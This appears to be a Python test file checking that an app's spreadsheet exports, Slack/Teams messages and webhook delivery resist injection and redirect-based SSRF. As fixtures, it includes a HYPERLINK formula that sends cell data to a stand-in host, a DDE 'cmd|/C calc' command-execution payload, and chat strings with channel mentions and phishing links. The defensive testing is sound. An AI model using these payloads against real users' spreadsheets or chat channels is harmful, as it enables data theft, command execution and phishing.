"""Attack-test findings: formula injection in exports, markup in chat messages, redirects.

7. Names starting with = + - @ TAB CR never become formulas in CSV or XLSX.
8. A moment title can't mention @channel or make a link in Slack or Teams.
9. A webhook that redirects is not followed, and no answer is stored beyond a short excerpt.
"""

from __future__ import annotations

import copy
import csv
import io
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from openpyxl import load_workbook

from zichtbaar.demo.survey import load_demo_survey
from zichtbaar.orgs import exports

HOSTILE = '=HYPERLINK("https://evil.test/?x="&A1,"Click")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


# --- 7. formula injection ------------------------------------------------------------------


@pytest.mark.parametrize("start", DANGEROUS)
def test_text_that_a_spreadsheet_would_run_gets_a_quote(start):
    assert exports.cell(f"{start}1+1") == f"'{start}1+1"
    assert exports.cell("Marketing") == "Marketing"
    assert exports.cell("'=already quoted") == "'=already quoted"


def test_numbers_and_empty_cells_stay_what_they_are():
    assert exports.row([-5, 2.5, None, True, "-5"]) == [-5, 2.5, None, True, "'-5"]


def test_xlsx_text_cells_are_strings_never_formulas():
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    exports.xlsx_append(ws, ["=1+1", "\x00=2+2", 3, "plain"])
    buf = io.BytesIO()
    wb.save(buf)
    cells = list(load_workbook(io.BytesIO(buf.getvalue())).active.iter_rows(values_only=False))[0]
    assert [c.value for c in cells] == ["'=1+1", "'=2+2", 3, "plain"]
    assert [c.data_type for c in cells] == ["s", "s", "n", "s"]


@pytest.fixture
def hostile_team(acme, alice, bob, carol):
    from zichtbaar.orgs.models import Team

    team = Team.objects.get(org=acme, name="Engineering")
    team.name = HOSTILE
    team.save()
    return team


def _csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_dashboard_csv_quotes_a_team_name_that_is_a_formula(login, alice, hostile_team):
    for url in ("/comms/impact/export.csv", f"/comms/impact/export.csv?team={hostile_team.pk}"):
        response = login(alice).get(url)
        assert response.status_code == 200
        cells = _csv_cells(response.content)
        assert "'" + HOSTILE in cells, url
        assert not [c for c in cells if c.startswith(DANGEROUS)], url


def test_dashboard_xlsx_has_no_formulas_and_keeps_numbers(login, alice, hostile_team):
    response = login(alice).get(f"/comms/impact/export.xlsx?team={hostile_team.pk}")
    assert response.status_code == 200
    wb = load_workbook(io.BytesIO(response.content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value != None]  # noqa: E711
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith("=")]
    assert "'" + HOSTILE in [c.value for c in cells]
    assert any(isinstance(c.value, int | float) for c in cells)  # figures are still numbers


def test_survey_xlsx_has_no_formulas(acme):
    from zichtbaar.surveys import report_xlsx, services

    survey = load_demo_survey(acme)
    report, mapping = services.report_for(survey, "en")
    report = copy.deepcopy(report)
    report["comments"] = [HOSTILE, "+31 6 1234 5678", "@SUM(1+1)*cmd|' /C calc'!A0"]
    for cells in (report.get("segments") or {}).values():
        for c in cells:
            c["value"] = "-" + str(c["value"])  # group names come from the organisation
    wb = load_workbook(io.BytesIO(report_xlsx.render_xlsx(report, mapping, "en")))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value != None]  # noqa: E711
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(DANGEROUS)]
    assert "'" + HOSTILE in texts and "'+31 6 1234 5678" in texts
    summary = wb.worksheets[0]
    assert summary["B2"].value == 281 and summary["B2"].data_type == "n"


# --- 8. Slack and Teams ----------------------------------------------------------------------

EVIL_TITLE = (
    "<!channel> <https://evil.test|Your bonus> *urgent* [Log in](https://evil.test) <at>All</at>"
)


def _chat(acme, make_moment, kind: str) -> dict[str, Any]:
    from zichtbaar.nudges import chat
    from zichtbaar.nudges.models import Webhook

    moment = make_moment(title=EVIL_TITLE, what_happened="- [x](https://evil.test) & <@U123>")
    hook = Webhook(org=acme, kind=kind, url="https://hooks.slack.com/services/T/B/X", language="en")
    return chat.chat_payload(hook, moment)


def test_slack_message_has_no_live_mention_or_link(acme, make_moment):
    body = _chat(acme, make_moment, "slack")
    section = body["blocks"][0]["text"]
    for text in (body["text"], section["text"]):
        assert "<" not in text and ">" not in text  # no <!channel>, <@U..>, <url|text>
        assert "&lt;!channel&gt;" in text
        assert "*urgent*" not in text  # no bold from a title
    assert section["verbatim"] is True  # no automatic links or mentions either
    assert "&amp;" in section["text"]


def test_teams_card_has_no_live_link_or_mention(acme, make_moment):
    body = _chat(acme, make_moment, "teams")
    title, text = body["attachments"][0]["content"]["body"][:2]
    for block in (title, text):
        value = block["text"]
        unescaped = re.findall(r"(?<!\\)[\[\]()<>*]", value)
        assert not unescaped, (value, unescaped)
        assert "](" not in value
    assert text["text"].startswith("\\-")  # not a list item either
    assert "\\[Log in\\]\\(https://evil.test\\)" in title["text"]


# --- 9. webhooks never follow redirects -------------------------------------------------------

SECRET = "internal-secret-7f3a9c"


class _Server:
    def __init__(self, handler: type[BaseHTTPRequestHandler]) -> None:
        self.requests: list[str] = []
        handler.server_log = self.requests  # type: ignore[attr-defined]
        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), handler)
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.httpd.server_address[1]}"

    def stop(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


def _handler(status: int, body: bytes, headers: dict[str, str] | None = None):
    class Handler(BaseHTTPRequestHandler):
        def _answer(self) -> None:
            self.server_log.append(f"{self.command} {self.path}")  # type: ignore[attr-defined]
            length = int(self.headers.get("Content-Length") or 0)
            self.rfile.read(length)
            self.send_response(status)
            for k, v in (headers or {}).items():
                self.send_header(k, v)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_GET = do_POST = _answer  # noqa: N815

        def log_message(self, *args: Any) -> None:
            pass

    return Handler


@pytest.fixture
def internal() -> Iterator[_Server]:
    server = _Server(_handler(200, f"admin panel: {SECRET}".encode()))
    yield server
    server.stop()


@pytest.fixture
def redirector(internal) -> Iterator[_Server]:
    server = _Server(
        _handler(302, f"see {SECRET}".encode(), {"Location": internal.base + "/admin"})
    )
    yield server
    server.stop()


def _stored_text(acme) -> str:
    from zichtbaar.nudges.models import Message, Webhook

    rows = list(Message.objects.filter(org=acme).values()) + list(
        Webhook.objects.filter(org=acme).values()
    )
    return repr(rows)


def test_a_redirecting_webhook_is_not_followed(acme, alice, login, redirector, internal):
    from zichtbaar.nudges import chat, delivery
    from zichtbaar.nudges.models import Message, Status, Webhook

    hook = Webhook.objects.create(
        org=acme, name="Sneaky", kind="slack", url=redirector.base + "/hook", language="en"
    )
    chat.queue_chat_test(hook)
    delivery.deliver(acme.pk)
    assert redirector.requests == ["POST /hook"]
    assert internal.requests == []  # never reached
    row = Message.objects.get(webhook=hook)
    assert row.status == Status.FAILED  # permanent: trying again would redirect again
    assert "redirect" in row.last_error and "302" in row.last_error
    assert SECRET not in _stored_text(acme)
    assert internal.base not in row.last_error
    page = login(alice).get("/comms/nudges/webhooks/").content.decode()
    assert SECRET not in page


def test_an_error_answer_is_kept_only_as_a_short_clean_excerpt(acme):
    from zichtbaar.nudges import chat, delivery
    from zichtbaar.nudges.models import Message, Status, Webhook

    body = ("no_service\x1b[31m\r\n" + "A" * 5000 + SECRET).encode()
    server = _Server(_handler(400, body))
    try:
        hook = Webhook.objects.create(
            org=acme, name="Noisy", kind="teams", url=server.base + "/hook", language="en"
        )
        chat.queue_chat_test(hook)
        delivery.deliver(acme.pk)
    finally:
        server.stop()
    row = Message.objects.get(webhook=hook)
    assert (
        row.status == Status.FAILED and "400" in row.last_error and "no_service" in row.last_error
    )
    assert SECRET not in _stored_text(acme)
    assert not re.search(r"[\x00-\x1f\x7f]", row.last_error)
    assert len(row.last_error) <= 250
